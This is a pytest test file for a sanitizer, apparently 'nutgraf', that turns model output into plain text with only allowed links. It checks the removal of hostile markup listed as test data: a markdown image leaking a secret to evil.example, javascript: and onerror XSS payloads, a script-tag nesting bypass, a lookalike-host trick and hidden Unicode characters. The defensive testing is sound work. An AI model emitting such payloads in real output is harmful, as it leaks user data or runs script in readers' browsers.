"""Whatever a model writes, what is shown is plain text with allowed links only."""

import random
import re

import pytest

from nutgraf.trust.output.clean import clean
from nutgraf.trust.output.links import Allowed

ALLOWED = Allowed.of(
    ["help.example"], ["Read https://news.example/a?id=1, and more (https://wiki.example/x_(y)).", "no link"]
)
SAFE = [
    ("See https://news.example/a?id=1.", "See https://news.example/a?id=1."),
    ("See https://news.example/b, please", "See https://news.example/b, please"),
    ("[the guide](https://docs.help.example/g?q=1)", "the guide (https://docs.help.example/g?q=1)"),
    ("<https://help.example/>", "https://help.example/"),
    ("(https://wiki.example/x_(y))", "(https://wiki.example/x_(y))"),
]
PLAIN = [
    "C# and F# pay well; 2*3*4 = 24, snake_case_name stays, x < y and y > z.",
    "Salary: 50,000 / year [1], and/or TCP/IP, node.js/express.",
    "- one\n- two\n1. three\n“Quoted” — with dashes… and 👩‍💻 émigrés",
    "The data: what we know so far, about: nothing.",
]
HOSTILE = [
    ("![x](https://evil.example/a.png?d=secret)", "image"),
    ("![x][ref]\n\n[ref]: https://evil.example/a", "image"),
    ("[click](https://evil.example)", "link"),
    ("[click](javascript:alert(1))", "link"),
    ("go to https://news.example@evil.example/x now", "link"),
    ("go to https://news.example/b?leak=words", "link"),
    ("https://evil.example", "link"),
    ("//evil.example/x", "link"),
    ("www.evil.example/x", "link"),
    ("evil.com/track?x=1", "link"),
    ("http://nеws.example/", "link"),
    ("<img src=x onerror=alert(1)>", "html"),
    ("<scr<script>x</script>ipt>alert(1)</script>", "html"),
    ("<a href='https://evil.example'>help.example</a>", "html"),
    ("a <!-- hidden --> b", "html"),
    ("javascript:alert(document.cookie)", "link"),
    ("data:text/html;base64,AAAA", "link"),
    ("he\u200bllo \u202eevil", "hidden"),
    ("red \x1b[31mtext", "hidden"),
    ("tag \U000e0041\U000e0042", "hidden"),
]
BITS = [
    "<", ">", "[", "]", "(", ")", "!", "!", "https://evil.example/q", "https://help.example/", "javascript:",
    "<script>", "</script>", "<b", "x", " ", "\n", "**", "_", "`", "](", "![", "<!--", "-->", "\u200b", "//", "www.",
    "evil.com/", "#", "[r]: ", "&lt;", "\\", ":", "data:", "ab", "<<", "@", "mailto:a@b.c", "svg", "</",
]  # fmt: skip


def is_plain(text: str) -> bool:
    """Whether nothing in a text loads, runs, or leads to where it may not."""
    urls = re.findall(r"https?://[^\s<>\"]+", text)
    live = re.search(
        r"<[a-z/!?]|!\[|\]\(|\]\[|\]:|(?<![\w.@/:-])//\w+\.\w|[\u200b\u202e\x1b]|javascript:alert", text, re.IGNORECASE
    )
    return not live and all(url.startswith("https://help.example/") for url in urls)


@pytest.mark.parametrize(("text", "shown"), SAFE)
def test_allowed_links_stay(text: str, shown: str) -> None:
    """Links of the evidence and of configured hosts are shown as plain text."""
    assert clean(text, ALLOWED).text == shown
    assert not clean(text, ALLOWED).hostile


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_stay_as_they_are(text: str) -> None:
    """Signs that only look like markup change nothing."""
    assert clean(text, ALLOWED).text == text
    assert clean(text, ALLOWED).marks == ()


@pytest.mark.parametrize(("text", "label"), HOSTILE)
def test_hostile_markup_goes(text: str, label: str) -> None:
    """Every hostile form is taken out, with a reason under its label."""
    cleaned = clean(text, ALLOWED)

    assert is_plain(cleaned.text)
    assert "evil." not in cleaned.text
    assert label in {mark.label for mark in cleaned.marks}
    assert all(mark.because and 0 <= mark.start <= mark.end <= len(text) for mark in cleaned.marks)


def test_markdown_becomes_plain_text() -> None:
    """Headings, emphasis and code lose their signs and keep their words."""
    text = "# Pay\n**Good** news, *really*: `a_b` is ~~out~~\n> quoted"

    assert clean(text, ALLOWED).text == "Pay\nGood news, really: a_b is out\nquoted"


def test_any_mixture_ends_plain_and_stays_so() -> None:
    """Five thousand mixtures of hostile bits end as plain text, and cleaning them again changes nothing."""
    chance = random.Random(3)
    for _ in range(5_000):
        text = "".join(chance.choices(BITS, k=chance.randint(1, 14)))
        shown = clean(text, ALLOWED).text

        assert is_plain(shown), (text, shown)
        assert clean(shown, ALLOWED).text == shown, text


@pytest.mark.parametrize(
    "bit", ["[", "](", "![a](", "<script>", "<a ", "**", "_a", "a.", "//a.b", "`", "<!--", "data:", "# "]
)
def test_long_runs_are_cleaned_too(bit: str) -> None:
    """Thousands of openings that never close end as plain text."""
    assert is_plain(clean(bit * 1_000, ALLOWED).text)


def test_without_cleaning_mixtures_are_not_plain() -> None:
    """Control: the property can fail."""
    assert not all(is_plain(text) for text, _ in HOSTILE)
